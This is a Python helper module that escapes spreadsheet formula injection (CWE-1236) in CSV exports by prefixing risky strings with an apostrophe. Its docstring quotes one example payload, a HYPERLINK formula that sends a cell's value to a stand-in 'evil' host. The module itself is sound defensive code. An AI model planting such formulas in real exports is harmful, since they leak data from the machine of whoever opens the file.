"""Spreadsheet cells that cannot run: the one helper every CSV and XLSX export writes through.

Excel, WPS and LibreOffice treat a cell starting with = + - @ (and tab or CR, which some strip first) as
a formula: a name typed as `=HYPERLINK("http://evil/?"&A1, "点此")` would run on the auditor's machine
(CWE-1236). Such text gets a leading apostrophe, which spreadsheets show as plain text. Numbers, dates and
None pass unchanged; only strings are touched.
"""

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value):
    """`value`, neutralised when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def csv_text(rows: Iterable[Iterable], *, bom: bool = True) -> str:
    """Rows as CSV text, every cell through safe_cell; with a BOM so Excel reads the Chinese as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(safe_row(row))
    return ("\ufeff" if bom else "") + out.getvalue()
